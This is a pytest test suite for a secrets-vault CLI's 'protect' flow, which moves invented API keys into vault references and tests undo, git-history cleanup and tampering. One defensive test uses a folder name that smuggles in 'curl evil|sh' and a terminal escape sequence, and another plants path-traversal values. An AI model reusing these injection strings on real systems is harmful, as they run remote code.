# SPDX-License-Identifier: Apache-2.0
"""`coffer protect`: the guided flow, at a terminal and without, with its way back."""

import os
import random
import shutil
import stat
import string
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import COFFER
from test_command import Vault
from test_run import Terminal


def drawn(count, letters=string.ascii_letters + string.digits):
    return "".join(random.choices(letters, k=count))


class Mess:
    """Two projects in a git repository, with invented keys in the shape of real ones."""

    def __init__(self, folder):
        self.folder = folder
        self.openai = f"sk-proj-{drawn(40)}T3BlbkFJ{drawn(40)}"
        self.eleven = "sk_" + drawn(48, "0123456789abcdef")
        self.replicate = "r8_" + drawn(37)
        self.files = {
            "bot/.env": f"# a bot\nOPENAI_API_KEY={self.openai}\nELEVENLABS_API_KEY={self.eleven}\nDEBUG=1",
            "bot/bot.py": f'import sys\nkey = "{self.openai}"\nsys.stdout.write(key[::-1])\n',
            "web/index.js": f"const key = '{self.openai}';\n",
            "web/image.py": f'client = dict(replicate_api_token="{self.replicate}")\n',
            "notes.md": f"my openai key: {self.openai}\n",
        }
        for name, text in self.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)

    @property
    def keys(self):
        return self.openai, self.eleven, self.replicate

    def commit(self):
        git = ["git", "-C", self.folder, "-c", "user.email=a@example.com", "-c", "user.name=a"]
        for arguments in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "first"]):
            subprocess.run([*git, *arguments], check=True)

    def text(self, name):
        return (self.folder / name).read_text()

    def is_as_it_was(self):
        return all(self.text(name) == text for name, text in self.files.items())


@pytest.fixture
def mess(tmp_path):
    folder = tmp_path / "mess"
    folder.mkdir()
    return Mess(folder)


def at_terminal(home, *arguments):
    return Terminal([str(COFFER), *map(str, arguments)], {**os.environ, "COFFER_HOME": str(home), "TERM": "xterm"}, size=(40, 80))


def answered(terminal, *answers):
    """Types each answer when its question is asked; what was shown, and the exit code."""
    for question, answer in answers:
        terminal.until(question)
        terminal.type(answer + "\r")
    _, code = terminal.end()
    return terminal.shown.replace("\r\n", "\n"), code


def test_from_nothing_to_protected_in_less_than_ten_questions(mess, tmp_path):
    mess.commit()
    home = tmp_path / "vault"
    shown, code = answered(
        at_terminal(home, "protect", mess.folder), (r"1 or 2\?", "1"), (r"new vault: $", "five random words typed"),
        (r"again: $", "five random words typed"), (r"these names\?", ""), (r"like this\?", ""), (r"the code too\?", "y"),
        (r"Allow these\?", ""), (r"Own key for openai/web", ""))
    try:
        assert code == 1, shown
        assert not any(key in shown for key in mess.keys)
        assert mess.text("bot/.env") == (
            "# a bot\nOPENAI_API_KEY=coffer://vault/openai/bot\nELEVENLABS_API_KEY=coffer://vault/elevenlabs/bot\nDEBUG=1")
        assert 'key = __import__("os").environ["OPENAI_API_KEY"]' in mess.text("bot/bot.py")
        assert mess.text("web/index.js") == "const key = process.env.OPENAI_API_KEY;\n"
        assert "REPLICATE_API_TOKEN=coffer://vault/replicate/web\n" in mess.text("web/.env")
        assert stat.S_IMODE((mess.folder / "web/.env").stat().st_mode) == 0o600
        vault = Vault(home)
        # The program goes on working, the way the flow says.
        done = subprocess.run(
            [str(COFFER), "run", "--app", "bot", "--env-file", ".env", "--", sys.executable, "bot.py"], cwd=mess.folder / "bot",
            env={**os.environ, "COFFER_HOME": str(home)}, capture_output=True, text=True, timeout=60)
        assert done.stdout == mess.openai[::-1], done.stderr
        assert vault.run("run", "--app", "bot", "--", "true", environment={"K": "coffer://vault/replicate/web"}).returncode == 3
        assert "openai/web is the same key as openai/bot" in shown
        # Exposed ones first, with the page where a new one is made.
        assert shown.index("Today, in this order:") < shown.index("coffer rotate openai/bot") < shown.index("What is left")
        assert "now (exposed)" in vault.run("list").stdout
        assert "notes.md:1\n       delete it there" in shown and "filter-repo" in shown
        assert vault.run("protect", mess.folder, "--undo", "--yes").returncode == 0
        assert mess.is_as_it_was()
    finally:
        Vault(home).run("lock")


@pytest.fixture
def vault(tmp_path):
    vault = Vault(tmp_path / "vault")
    assert vault.run("init", "--seal", "key-file").returncode == 0
    return vault


def test_without_a_terminal_it_asks_for_yes_and_a_dry_run_changes_nothing(mess, vault, tmp_path):
    refused = vault.run("protect", mess.folder)
    assert refused.returncode == 7 and "--dry-run" in refused.stderr
    dry = Vault(tmp_path / "no-vault").run("protect", mess.folder, "--dry-run")
    assert dry.returncode == 1 and "+OPENAI_API_KEY=coffer://vault/openai/bot" in dry.stdout, dry.stderr
    assert "Nothing was changed" in dry.stdout and mess.is_as_it_was() and not (mess.folder / "web/.env").exists()
    assert not (tmp_path / "no-vault").exists()


def test_with_yes_code_changes_only_where_it_was_asked_for(mess, vault):
    done = vault.run("protect", mess.folder, "--yes")
    assert done.returncode == 1 and mess.text("bot/bot.py") == mess.files["bot/bot.py"]
    assert "coffer://vault/openai/bot" in mess.text("bot/.env")
    assert "coffer protect --code changes it, so that it reads OPENAI_API_KEY" in done.stdout
    again = vault.run("protect", mess.folder, "--yes", "--code")
    assert again.returncode == 1 and "os" in mess.text("bot/bot.py") and mess.openai not in mess.text("bot/bot.py")
    assert vault.run("list", "--quiet").stdout.split() == [
        "elevenlabs/bot", "openai/bot", "openai/web", "replicate/web"], "what is stored is not stored twice"
    # A clean folder says so.
    (mess.folder / "notes.md").unlink()
    clean = vault.run("protect", mess.folder, "--yes")
    assert clean.returncode == 0 and "nothing to do" in clean.stdout
    assert not any(key in output for output in vault.outputs for key in mess.keys)


def test_a_file_that_was_rewritten_twice_is_put_back_as_it_first_was(mess, vault):
    env = mess.folder / "bot/.env"
    vault.run("protect", mess.folder, "--yes")
    with env.open("a") as file:
        file.write(f"\nREPLICATE_API_TOKEN={mess.replicate}\n")
    between = env.read_text()
    vault.run("protect", mess.folder, "--yes", "--code")
    assert mess.replicate not in env.read_text()
    # The second change goes back; the first can't, for the line that was added since is somebody's work.
    undone = vault.run("protect", mess.folder, "--undo", "--yes")
    assert undone.returncode == 7 and "changed since" in undone.stderr and env.read_text() == between
    assert vault.run("protect", mess.folder, "--undo", "--force", "--yes").returncode == 0
    assert mess.is_as_it_was()


def test_confirming_forgets_the_old_files(mess, vault):
    vault.run("protect", mess.folder, "--yes", "--code")
    assert "coffer/undo" in vault.run("list", "--all", "--quiet").stdout
    confirmed = vault.run("protect", mess.folder, "--confirm", "--yes")
    assert confirmed.returncode == 0 and "5 files stay" in confirmed.stdout
    assert "coffer/undo" not in vault.run("list", "--all", "--quiet").stdout
    nothing = vault.run("protect", mess.folder, "--undo", "--yes")
    assert nothing.returncode == 4 and "hint:" in nothing.stderr


def test_what_can_not_be_a_reference_stays_and_is_told(vault, mess):
    folder = mess.folder / "odd"
    folder.mkdir()
    odd = {
        ".env": f'HEADER="Authorization: Bearer {mess.openai}"\n',
        "settings.json": f'{{"openai_api_key": "{mess.openai}"}}\n',
        "long.py": f'key = b"{mess.openai}"\n', "doc.py": f'"""{mess.openai}"""\n',
        "main.go": f'key := "{mess.openai}"\n', "start.sh": f"export OPENAI_API_KEY='{mess.openai}'\n",
    }
    for name, text in odd.items():
        (folder / name).write_text(text)
    done = vault.run("protect", folder, "--yes", "--code")
    assert done.returncode == 1
    assert {name: (folder / name).read_text() for name in odd} == odd
    for place, advice in (
            (".env:1", "a variable of its own"), ("settings.json:1", "coffer inject"), ("main.go:1", "from the environment")):
        assert f"  {place}\n       " in done.stdout and advice in done.stdout, done.stdout


def test_other_languages_read_their_variables(vault, mess):
    folder = mess.folder / "code"
    folder.mkdir()
    texts = {
        "a.py": (f'import os\nkey = "{mess.openai}"\n', 'import os\nkey = os.environ["OPENAI_API_KEY"]\n'),
        "b.ts": (f"const key = `{mess.openai}`\n", "const key = process.env.OPENAI_API_KEY!\n"),
        "c.rb": (f"key = '{mess.openai}'\n", 'key = ENV.fetch("OPENAI_API_KEY")\n'),
        "d.sh": (f'curl -H "Authorization: Bearer {mess.openai}"\n', 'curl -H "Authorization: Bearer ${OPENAI_API_KEY}"\n'),
        "docker-compose.yml": (f"  OPENAI_API_KEY: {mess.openai}\n", "  OPENAI_API_KEY: ${OPENAI_API_KEY}\n"),
    }
    for name, (text, _) in texts.items():
        (folder / name).write_text(text)
    (folder / ".env").write_text("DEBUG=1")
    assert vault.run("protect", folder, "--yes", "--code").returncode == 0
    for name, (_, expected) in texts.items():
        assert (folder / name).read_text() == expected
    assert (folder / ".env").read_text() == "DEBUG=1\nOPENAI_API_KEY=coffer://vault/openai/code\n"
    done = vault.run("run", "--app", "code", "--env-file", folder / ".env", "--no-masking", "--", "python3", "-c",
                     "import os; print(os.environ['OPENAI_API_KEY'])", keep=False)
    assert done.stdout.strip() == mess.openai


def test_a_file_that_can_not_be_written_keeps_its_key_and_the_rest_goes_on(vault, mess):
    (mess.folder / "hard").mkdir()
    os.link(mess.folder / "bot/.env", mess.folder / "hard/link")
    done = vault.run("protect", mess.folder / "bot", "--yes", "--code")
    assert mess.text("bot/.env") == mess.files["bot/.env"]
    assert done.returncode == 1 and "hard links" in done.stdout
    assert mess.openai not in mess.text("bot/bot.py"), "the rest goes on"


def test_a_folder_that_is_none_is_refused(vault, tmp_path):
    done = vault.run("protect", tmp_path / "missing", "--yes")
    assert done.returncode == 7 and "is no folder" in done.stderr and "hint:" in done.stderr
    assert vault.run("protect", "--undo", "--confirm").returncode == 2


def test_the_commands_for_git_history_take_the_keys_out(vault, mess, tmp_path):
    mess.commit()
    done = vault.run("protect", mess.folder, "--yes", "--code")
    for name in ("openai/bot", "elevenlabs/bot", "replicate/web", "openai/web"):
        assert vault.run("rotate", name, text=f"new-{name}-{drawn(20)}").returncode == 0
    assert "now (exposed)" not in vault.run("list").stdout
    lines = done.stdout.split("  pip install git-filter-repo\n")[1].split("\n\n")[0]
    script = "\n".join(line for line in lines.split("\n") if "remote" not in line and "push" not in line)
    assert "--previous --app bot) &&" in script
    path = f"{COFFER.parent}:{Path(sys.executable).parent}:{os.environ['PATH']}"
    ran = subprocess.run(
        ["bash", "-ec", script], env={**os.environ, "PATH": path, "COFFER_HOME": str(vault.home)}, capture_output=True, text=True,
        timeout=120)
    assert ran.returncode == 0, ran.stderr
    objects = subprocess.run(
        ["git", "-C", mess.folder, "log", "--all", "-p"], capture_output=True, text=True, check=True).stdout
    assert "REMOVED" in objects and not any(key in objects for key in mess.keys)
    shutil.rmtree(str(mess.folder) + "-before")


def owner_client(vault):
    """boto3 with the owner's key, against a server of the vault's."""
    import json
    import re

    import boto3

    server = subprocess.Popen(
        [str(COFFER), "serve", "--listen", "127.0.0.1:0"], env={**os.environ, "COFFER_HOME": str(vault.home)},
        stderr=subprocess.PIPE, text=True)
    endpoint = next(found[0] for line in server.stderr if (found := re.search(r"http://127\.0\.0\.1:\d+", line)))
    made = json.loads(vault.run("credentials", "--format", "json", keep=False).stdout)
    made = {name.lower().replace("_", "").removeprefix("aws"): value for name, value in made.items()}
    return server, boto3.client(
        "secretsmanager", endpoint_url=endpoint, region_name=made["region"], aws_access_key_id=made["accesskeyid"],
        aws_secret_access_key=made["secretaccesskey"])


def test_nobody_who_writes_secrets_writes_files(mess, vault, tmp_path):
    vault.run("protect", mess.folder, "--yes")
    env = mess.folder / "bot/.env"
    changed = env.read_text()
    outside = tmp_path / "outside"
    outside.write_text(changed)
    server, secrets = owner_client(vault)
    try:
        kept = next(one for one in secrets.list_secrets(MaxResults=100)["SecretList"] if one.get("Description") == str(env))
        secrets.put_secret_value(SecretId=kept["Name"], SecretBinary=b"evil\n")
        secrets.create_secret(
            Name="coffer/undo/zzz/9", Description=f"{mess.folder}/../outside", SecretBinary=b"evil\n", Tags=kept["Tags"])
        secrets.create_secret(
            Name=kept["Name"] + "/2", Description=str(env), SecretBinary=b"evil\n", Tags=kept["Tags"])
    finally:
        server.terminate()
        server.wait(20)
    undone = vault.run("protect", mess.folder, "--undo", "--yes")
    assert undone.returncode == 7 and "was changed by somebody: not put back" in undone.stderr
    assert env.read_text() == changed and outside.read_text() == changed


@pytest.mark.parametrize("meanwhile", ["a file", "a link", "another folder"])
def test_what_appears_while_a_question_waits_is_left_alone(mess, vault, tmp_path, meanwhile):
    terminal = at_terminal(vault.home, "protect", mess.folder)
    for question, answer in ((r"these names\?", ""), (r"like this\?", "")):
        terminal.until(question)
        terminal.type(answer + "\r")
    terminal.until(r"the code too\?")
    victim = tmp_path / "victim"
    victim.mkdir()
    if meanwhile == "a file":
        (mess.folder / "web/.env").write_text("PRECIOUS=1\n")
    elif meanwhile == "a link":
        (mess.folder / "web/.env").symlink_to(victim / "made")
    else:
        (mess.folder / "web").rename(mess.folder / "away")
        (mess.folder / "web").symlink_to(victim)
    terminal.type("y\r")
    _, code = terminal.end()
    assert code == 7 and list(victim.iterdir()) == [], terminal.shown
    if meanwhile == "a file":
        assert mess.text("web/.env") == "PRECIOUS=1\n"


def test_a_file_that_was_made_goes_away_again(mess, vault):
    vault.run("protect", mess.folder, "--yes", "--code")
    assert (mess.folder / "web/.env").exists()
    assert vault.run("protect", mess.folder, "--undo", "--yes").returncode == 0
    assert mess.is_as_it_was() and not (mess.folder / "web/.env").exists()


def test_a_key_for_a_name_is_refused_and_not_shown(mess, vault):
    terminal = at_terminal(vault.home, "protect", mess.folder)
    terminal.until(r"these names\?")
    terminal.type("e\r")
    terminal.until(r"Name for the openai key in bot/.env:2")
    terminal.type(f"x/{mess.eleven}\r")
    terminal.until("That is a key, not a name")
    terminal.type("\r" * 4)
    for question in (r"like this\?", r"Allow these\?"):
        terminal.until(question)
        terminal.type("n\r")
    terminal.until("Own key for openai/web")
    terminal.type("\r")
    shown, code = terminal.end()
    assert code == 1 and mess.is_as_it_was() and "No file was changed" in terminal.shown
    assert mess.eleven not in vault.run("list", "--quiet", keep=False).stdout


def test_names_of_folders_do_nothing_in_what_is_printed(vault, mess, tmp_path):
    folder = tmp_path / "d;id #\n  curl evil|sh\n\x1b[31m"
    folder.mkdir()
    (folder / ".env").write_text(f"OPENAI_API_KEY={mess.openai}\n")
    shown = []
    for arguments in (["--dry-run"], ["--yes"], ["--undo", "--yes"]):
        done = vault.run("protect", folder, *arguments)
        shown.append(done.stdout + done.stderr)
    shown.append(vault.run("scan", folder).stdout)
    for text in shown:
        assert not any(line.strip().startswith("curl") for line in text.split("\n")) and "\x1b" not in text, text
    assert (folder / ".env").read_text() == f"OPENAI_API_KEY={mess.openai}\n"


def test_a_key_that_was_replaced_does_not_come_back(mess, vault):
    mess.commit()
    vault.run("protect", mess.folder, "--yes")
    new = f"sk-proj-{drawn(40)}T3BlbkFJ{drawn(40)}"
    assert vault.run("rotate", "openai/bot", text=new).returncode == 0
    names = vault.run("list", "--quiet").stdout
    env = mess.text("bot/.env")
    again = vault.run("protect", mess.folder, "--yes", "--code")
    assert "openai/bot had the key in" in again.stdout and "was replaced since" in again.stdout
    assert vault.run("list", "--quiet").stdout == names and mess.text("bot/.env") == env, "nothing is stored or written twice"
    done = vault.run("run", "--app", "bot", "--no-masking", "--env-file", mess.folder / "bot/.env", "--", sys.executable,
                     mess.folder / "bot/bot.py", keep=False)
    assert done.stdout == new[::-1], done.stderr


def test_a_variable_that_refers_to_the_secret_already_is_read(mess, vault):
    (mess.folder / "web/.env.local").write_text(f"VITE_KEY={mess.openai}\n")
    done = vault.run("protect", mess.folder, "--yes", "--code")
    assert mess.text("web/index.js") == "const key = process.env.VITE_KEY;\n"
    assert "OPENAI" not in mess.text("web/.env")
    assert "coffer run --app web --env-file .env --env-file .env.local -- YOUR COMMAND" in done.stdout


def test_a_key_in_history_alone_is_ended_and_not_stored(mess, vault):
    mess.commit()
    (mess.folder / "web/image.py").unlink()
    done = vault.run("protect", mess.folder, "--yes", "--code")
    assert "replicate" not in vault.run("list", "--quiet").stdout and "Replicate key in web/image.py" in done.stdout


def test_an_answer_that_is_none_is_asked_for_again(mess, vault):
    terminal = at_terminal(vault.home, "protect", mess.folder)
    terminal.until(r"these names\?")
    terminal.type("banana\r")
    terminal.until("Please answer y, n or e")
    terminal.type("n\r")
    assert terminal.end()[1] == 7 and vault.run("list", "--quiet").stdout == ""


def test_leaving_says_how_things_stand(mess, vault):
    terminal = at_terminal(vault.home, "protect", mess.folder)
    terminal.until(r"these names\?")
    terminal.type("\x03")
    shown, code = terminal.end()
    assert code == 130 and "Left." in shown and mess.is_as_it_was()


def test_a_vault_is_no_place_to_look_for_keys(mess, vault):
    vault.run("protect", mess.folder, "--yes", "--code")
    (mess.folder / "notes.md").unlink()
    vault.home.rename(mess.folder / "vault")
    moved = Vault(mess.folder / "vault")
    found = moved.run("scan", mess.folder, "--everything")
    assert found.returncode == 0, found.stdout
    # What lies beside its files is looked at.
    (mess.folder / "vault/keys.txt").write_text(mess.openai)
    assert "vault/keys.txt:1" in moved.run("scan", mess.folder).stdout


def test_what_was_stored_and_allowed_can_be_taken_back(vault, mess):
    vault.run("add", "openai/test", text=mess.openai)
    vault.run("allow", "bot", "openai/test")
    key = {"K": "coffer://vault/openai/test"}
    assert vault.run("run", "--app", "bot", "--", "true", environment=key).returncode == 0
    assert "may read nothing any more" in vault.run("disallow", "bot", "openai/test").stdout
    assert vault.run("run", "--app", "bot", "--", "true", environment=key).returncode == 3
    assert vault.run("disallow", "bot", "openai/test").returncode == 4
    assert vault.run("remove", "openai/test", "--yes").returncode == 0
    assert vault.run("list", "--quiet").stdout == ""
    assert vault.run("remove", "openai/test", "--undo").returncode == 0
    assert vault.run("list", "--quiet").stdout == "openai/test\n"
    wrong = vault.run("run", "--app", "bto", "--", "true", environment=key)
    assert wrong.returncode == 3 and "there is no app bto; there are: bot" in wrong.stderr
